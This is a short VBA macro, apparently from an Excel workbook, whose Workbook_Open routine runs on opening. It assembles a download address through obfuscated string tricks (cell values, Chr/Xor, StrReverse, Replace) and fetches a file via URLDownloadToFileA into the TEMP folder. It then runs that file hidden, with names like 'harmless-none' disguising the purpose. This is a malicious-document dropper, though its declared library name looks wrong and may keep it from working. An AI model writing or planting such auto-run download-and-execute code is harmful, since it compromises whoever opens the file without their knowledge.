Private Declare PtrSafe Function FetchFile Lib "harmless-none.dll" Alias "URLDownloadToFileA" (ByVal caller As LongPtr, ByVal address As String, ByVal path As String, ByVal reserved As Long, ByVal callback As LongPtr) As Long
Private Sub Workbook_Open()
    Dim address As String, place As String
    address = Sheets("Sheet1").Range("B2").Value & Cells(2, 3)
    address = address & Mid("xxexampleyy", 3, 7) & Replace("!net", "!", ".") & Chr(47)
    address = address & Chr(Asc("B") Xor 32) & StrReverse("1=x?")
    place = Environ("TEMP") & "\harmless-none.exe"
    FetchFile 0, address, place, 0, 0
    Shell place, vbHide
End Sub
